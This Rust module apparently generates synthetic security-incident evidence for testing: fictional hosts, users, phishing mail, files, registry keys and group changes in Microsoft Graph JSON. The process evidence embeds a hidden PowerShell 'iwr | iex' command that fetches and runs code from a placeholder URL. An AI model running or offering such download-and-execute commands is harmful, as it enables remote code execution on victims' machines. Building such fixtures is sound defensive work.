//! Evidence that fits together: each incident has a cast, and its alerts show the same host, user, file and addresses.

use super::Dice;
use super::people::{HOSTS, VICTIMS};
use super::stories::Clue;
use serde_json::{Value as Json, json};

/// Who and what an incident is about.
#[derive(Clone, Debug)]
pub(super) struct Cast {
    /// The machine.
    pub host: String,
    /// The account.
    pub user: String,
    os: &'static str,
    shown: &'static str,
    number: u64,
    ip: String,
    hash: String,
}

impl Cast {
    /// Chosen by the dice.
    pub(super) fn choose(dice: &mut Dice) -> Cast {
        let (host, os) = dice.pick(HOSTS).copied().unwrap_or(("ws-0001", "Windows11"));
        let (user, shown) = dice.pick(VICTIMS).copied().unwrap_or(("user", "User"));
        // Address ranges that are reserved for documentation.
        let net = dice.pick(&["203.0.113", "198.51.100", "192.0.2"]).copied().unwrap_or("192.0.2");
        let ip = format!("{net}.{}", 1 + dice.below(254));
        let hash = (0..4).map(|_| format!("{:016x}", dice.number())).collect();
        let (host, user) = (host.to_owned(), user.to_owned());
        Cast { host, user, os, shown, number: dice.number() % 1_000_000, ip, hash }
    }

    fn guid(&self, what: &str) -> String {
        let text = format!("{what}/{}/{}", self.host, self.user);
        uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_DNS, text.as_bytes()).hyphenated().to_string()
    }

    fn upn(&self) -> String {
        format!("{}@contoso.com", self.user)
    }

    fn account(&self) -> Json {
        let mut letters = 1000_u64;
        self.user.bytes().for_each(|b| letters = (letters * 31 + u64::from(b)) % 9000 + 1000);
        json!({"accountName": self.user, "domainName": "contoso", "displayName": self.shown,
            "userPrincipalName": self.upn(), "azureAdUserId": self.guid("user"),
            "userSid": format!("S-1-5-21-1085031214-1563985344-725345543-{letters}")})
    }

    fn file(&self) -> Json {
        let name = if self.number.is_multiple_of(2) { "invoice_viewer.exe" } else { "update-helper.dll" };
        json!({"fileName": name, "filePath": format!("C:\\Users\\{}\\Downloads", self.user),
            "fileSize": 180_000 + self.number,
            "sha256": self.hash, "sha1": self.hash.chars().take(40).collect::<String>()})
    }

    fn message(&self, at: &str) -> Json {
        let sender = json!({"emailAddress": "billing@fabrikam-invoices.example", "displayName": "Fabrikam Billing",
            "domainName": "fabrikam-invoices.example"});
        json!({"networkMessageId": self.guid("message"),
            "internetMessageId": format!("<{}@fabrikam-invoices.example>", self.number),
            "subject": format!("Overdue invoice {}", self.number), "language": "en", "senderIp": self.ip,
            "recipientEmailAddress": self.upn(), "antiSpamDirection": "inbound", "deliveryAction": "delivered",
            "deliveryLocation": "inbox", "receivedDateTime": at, "p1Sender": sender, "p2Sender": sender,
            "urls": [self.url()], "urlCount": 1, "attachmentsCount": 0, "threats": ["Phish"]})
    }

    fn url(&self) -> String {
        format!("https://login-contoso.example/session/{}", self.number)
    }

    /// A piece of evidence, seen `at`.
    pub(super) fn clue(&self, clue: Clue, at: &str) -> Json {
        let (kind, role, own) = match clue {
            Clue::Device => ("device", "compromised", self.device(at)),
            Clue::User => ("user", "compromised", json!({"userAccount": self.account()})),
            Clue::Process => ("process", "created", self.process(at)),
            Clue::File => {
                let own =
                    json!({"fileDetails": self.file(), "detectionStatus": "detected", "mdeDeviceId": self.device_id()});
                ("file", "created", own)
            }
            Clue::Ip => ("ip", "attacker", json!({"ipAddress": self.ip, "countryLetterCode": "ZZ"})),
            Clue::Url => ("url", "commandAndControl", json!({"url": self.url()})),
            Clue::Mailbox => {
                let own = json!({"primaryAddress": self.upn(), "upn": self.upn(), "displayName": self.shown,
                    "userAccount": self.account()});
                ("mailbox", "attacked", own)
            }
            Clue::Message => ("analyzedMessage", "source", self.message(at)),
            Clue::App => {
                let own = json!({"appId": 20893, "displayName": "Microsoft SharePoint Online", "saasAppId": 20892,
                    "instanceId": 0, "instanceName": "Microsoft SharePoint Online"});
                ("cloudApplication", "contextual", own)
            }
            Clue::Oauth => {
                let own = json!({"appId": self.guid("app"), "objectId": self.guid("app object"),
                    "displayName": "Mail Sync Helper", "publisher": "Unknown"});
                ("oauthApplication", "suspicious", own)
            }
            Clue::Registry => {
                let own = json!({"registryHive": "HKEY_LOCAL_MACHINE",
                    "registryKey": "SYSTEM\\CurrentControlSet\\Services\\UpdSvc",
                    "registryValueName": "ImagePath", "registryValue": "C:\\ProgramData\\upd.exe",
                        "registryValueType": "string", "mdeDeviceId": self.device_id()});
                ("registryValue", "added", own)
            }
            Clue::Group => {
                let own = json!({"displayName": "Domain Admins", "sid": "S-1-5-21-1085031214-1563985344-725345543-512",
                    "distinguishedName": "CN=Domain Admins,CN=Users,DC=contoso,DC=com"});
                ("securityGroup", "edited", own)
            }
        };
        let verdict = if matches!(clue, Clue::Device | Clue::User) { "unknown" } else { "suspicious" };
        let mut out = json!({"@odata.type": format!("#microsoft.graph.security.{kind}Evidence"), "createdDateTime": at,
            "verdict": verdict, "remediationStatus": "none", "remediationStatusDetails": Json::Null, "roles": [role],
            "detailedRoles": [], "tags": []});
        if let (Some(out), Json::Object(own)) = (out.as_object_mut(), own) {
            out.extend(own);
        }
        out
    }

    fn device_id(&self) -> String {
        let hex = uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_DNS, self.host.as_bytes()).simple().to_string();
        format!("{hex}{}", hex.chars().take(8).collect::<String>())
    }

    fn device(&self, at: &str) -> Json {
        json!({"hostName": self.host, "deviceDnsName": format!("{}.contoso.com", self.host), "dnsDomain": "contoso.com",
            "ntDomain": "CONTOSO", "mdeDeviceId": self.device_id(), "azureAdDeviceId": Json::Null,
            "osPlatform": self.os, "osBuild": 22631, "version": "23H2", "healthStatus": "active", "riskScore": "medium",
            "onboardingStatus": "onboarded", "defenderAvStatus": "updated", "firstSeenDateTime": at,
            "rbacGroupId": 75, "rbacGroupName": "Workstations", "lastIpAddress": "10.20.30.40",
            "ipInterfaces": ["10.20.30.40"], "loggedOnUsers": [{"accountName": self.user, "domainName": "contoso"}]})
    }

    fn process(&self, at: &str) -> Json {
        let image = json!({"fileName": "powershell.exe", "filePath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"});
        let parent = json!({"fileName": "explorer.exe", "filePath": "C:\\Windows"});
        json!({"processId": 1000 + self.number % 60_000, "parentProcessId": 900, "processCommandLine":
            format!("powershell.exe -NoP -W Hidden -c \"iwr {} | iex\"", self.url()), "processCreationDateTime": at,
            "imageFile": image, "parentProcessImageFile": parent, "userAccount": self.account(),
            "detectionStatus": "detected", "mdeDeviceId": self.device_id()})
    }
}
